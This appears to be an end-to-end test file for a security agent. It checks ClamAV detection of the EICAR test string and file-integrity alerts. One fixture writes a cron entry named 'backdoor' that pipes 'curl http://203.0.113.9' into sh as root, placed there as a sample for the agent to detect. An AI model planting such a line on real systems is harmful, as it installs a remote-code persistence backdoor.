// The agent's watchers end to end: a real agent process follows a ClamAV log written by a real clamscan run
// (with a locally built EICAR signature), and watches critical files, including an atomic save (write + rename)
// and a change made while the agent was stopped.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createHash } from 'node:crypto';
import { execFile } from 'node:child_process';
import { mkdirSync, mkdtempSync, readFileSync, renameSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { ApiClient } from '../helpers/api.js';
import { freePort, runCli, spawnCli, waitFor, type CliProcess } from '../helpers/cli.js';

const run = promisify(execFile);
const EICAR = 'X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*';
const sha = (s: string) => createHash('sha256').update(s).digest('hex');

type Ev = { eventId: string; type: string; data: Record<string, unknown> };

let root: string;
let dataDir: string;
let stateDir: string;
let url: string;
let agentId: string;
let collector: CliProcess;
let agent: CliProcess;
let api: ApiClient;
let env: Record<string, string>;

const events = async () => (await api.get<{ events: Ev[] }>(`/api/v1/agents/${agentId}`)).body.events;
const startAgent = () => spawnCli(['agent', 'run', '--state-dir', stateDir], env);

beforeAll(async () => {
  root = mkdtempSync(join(tmpdir(), 'soclite-watch-'));
  dataDir = join(root, 'data');
  stateDir = join(root, 'agent');
  mkdirSync(join(root, 'etc', 'cron.d'), { recursive: true });
  writeFileSync(join(root, 'etc', 'hosts'), '127.0.0.1 localhost\n');
  writeFileSync(join(root, 'eicar.com'), EICAR);
  writeFileSync(join(root, 'soclite-test.ndb'), `Soclite.Test.EICAR-1:0:*:${Buffer.from(EICAR).toString('hex')}\n`);
  env = {
    SOCLITE_AGENT_FIM_PATHS: [join(root, 'etc', 'hosts'), join(root, 'etc', 'cron.d')].join(':'),
    SOCLITE_AGENT_AV_LOGS: join(root, 'clamav.log'),
  };
  const port = await freePort();
  collector = spawnCli(['collector', '--data-dir', dataDir, '--port', String(port)], { SOCLITE_AGENTS_HEARTBEATSEC: '1', SOCLITE_AGENTS_SCANSEC: '30' });
  url = (await collector.waitForLine(/^URL: (\S+)$/m))[1]!;
  const password = (await collector.waitForLine(/^admin password: (\S+)$/m))[1]!;
  api = new ApiClient(url);
  await api.login('admin', password);
  const t = await runCli(['token', 'create', '--unit', 'default', '--data-dir', dataDir]);
  writeFileSync(join(root, 'token'), t.stdout.trim().split('\n').pop()! + '\n', { mode: 0o600 });
  const e = await runCli(['agent', 'enroll', '--server', url, '--token-file', join(root, 'token'), '--state-dir', stateDir]);
  expect(e.code, e.stderr).toBe(0);
  agentId = /enrolled as (agt_\S+)/.exec(e.stdout)![1]!;
  agent = startAgent();
  await waitFor('first posture', async () => (await api.get<{ posture: unknown }>(`/api/v1/agents/${agentId}`)).body.posture, 60_000);
});

afterAll(async () => {
  await agent?.kill('SIGKILL');
  await collector?.kill('SIGTERM');
});

describe('agent watchers', () => {
  it('reports a ClamAV detection from clamscan --log as a malware_detected event', async () => {
    const r = await run('clamscan', ['--no-summary', '-d', join(root, 'soclite-test.ndb'), `--log=${join(root, 'clamav.log')}`, join(root, 'eicar.com')]).catch((e: { code: number }) => e);
    expect((r as { code?: number }).code).toBe(1);
    const ev = await waitFor('malware event', async () => (await events()).find((x) => x.type === 'malware_detected'), 30_000);
    expect(ev.data).toMatchObject({ path: join(root, 'eicar.com'), signature: 'Soclite.Test.EICAR-1.UNOFFICIAL', product: 'ClamAV' });
  });

  it('follows the log across rotation', async () => {
    renameSync(join(root, 'clamav.log'), join(root, 'clamav.log.1'));
    await run('clamscan', ['--no-summary', '-d', join(root, 'soclite-test.ndb'), `--log=${join(root, 'clamav.log')}`, join(root, 'eicar.com')]).catch(() => undefined);
    await waitFor('second malware event', async () => (await events()).filter((x) => x.type === 'malware_detected').length === 2, 30_000);
  });

  it('sees an atomic save of a watched file, with the old and new content hashes', async () => {
    const before = readFileSync(join(root, 'etc', 'hosts'), 'utf8');
    const after = before + '203.0.113.9 update.example\n';
    writeFileSync(join(root, 'etc', 'hosts.tmp'), after);
    renameSync(join(root, 'etc', 'hosts.tmp'), join(root, 'etc', 'hosts'));
    const ev = await waitFor(
      'file_changed for hosts',
      async () => (await events()).find((x) => x.type === 'file_changed' && x.data.path === join(root, 'etc', 'hosts')),
      30_000,
    );
    expect(ev.data).toMatchObject({ change: 'modified', oldSha256: sha(before), newSha256: sha(after) });
  });

  it('reports a file created while the agent was stopped when it starts again', async () => {
    expect(await agent.kill('SIGTERM')).toBe(0);
    writeFileSync(join(root, 'etc', 'cron.d', 'backdoor'), '* * * * * root curl http://203.0.113.9 | sh\n');
    agent = startAgent();
    const ev = await waitFor(
      'file_changed for the new cron file',
      async () => (await events()).find((x) => x.type === 'file_changed' && x.data.path === join(root, 'etc', 'cron.d', 'backdoor')),
      60_000,
    );
    expect(ev.data).toMatchObject({ change: 'created' });
    // Nothing from before the restart is reported twice.
    expect((await events()).filter((x) => x.type === 'malware_detected')).toHaveLength(2);
  });
});
